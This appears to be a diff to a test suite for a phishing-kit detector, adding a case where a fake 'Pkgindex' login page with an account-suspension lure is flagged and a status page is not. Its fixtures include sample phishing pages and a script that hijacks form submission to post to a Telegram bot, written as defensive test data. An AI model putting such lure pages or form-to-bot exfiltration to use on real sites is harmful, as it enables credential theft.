@@ -341,6 +341,14 @@ describe('analysis: signal rules', () => {
       assert.ok(result.decidedBy?.includes('combo:lure-credentials') && result.decidedBy.includes('combo:exfiltrated-credentials'));
     });
 
+    it('a page calling itself by the name of another site it links to, asking for credentials under a lure, is a kit without any registry entry; the organisation\'s status page on a second domain is not', () => {
+      const page = kit('https://pkgindex-mirror.example/account/login/', '<title>Log in · Pkgindex</title><h1>Pkgindex</h1><p>Mandatory account validation. Accounts that are not validated within 72 hours will be suspended.</p><form method="post"><input name="username"><input type="password" name="password"><button>Log in</button></form><a href="https://pkgindex.example/help/">Help</a>');
+      assert.ok(has(page.signals, 'name-owned-elsewhere'), JSON.stringify(page.signals.map((x) => x.id)));
+      assert.ok(page.result.decidedBy?.includes('combo:name-elsewhere-credentials'), JSON.stringify(page.result.decidedBy));
+      const status = kit('https://pkgindex-status.example/', '<title>Pkgindex</title><h1>Pkgindex status</h1><p>All systems operational. Incidents are also posted on our blog.</p><a href="https://pkgindex.example/">Back to Pkgindex</a>');
+      assert.equal(status.result.verdict, 'clean');
+    });
+
     it('credential fields posted to a chat bot are a kit even on a page that names its host; a contact form sent to the same bot is not', () => {
       const bot = '<script>document.forms[0].onsubmit=function(){fetch("https://api.telegram.org/bot123:AAx/sendMessage",{method:"POST",body:JSON.stringify({chat_id:1,text:"x"})});return false}</script>';
       const named = kit('https://pesopay-upgrade.example/upgrade/', `<title>PesoPay</title><h1>PesoPay</h1><form><input name="mobile" placeholder="Mobile number"><input type="password" name="mpin" placeholder="MPIN"><input name="otp" autocomplete="one-time-code"><button>Upgrade</button></form>${bot}<footer>© 2026 PesoPay</footer>`);
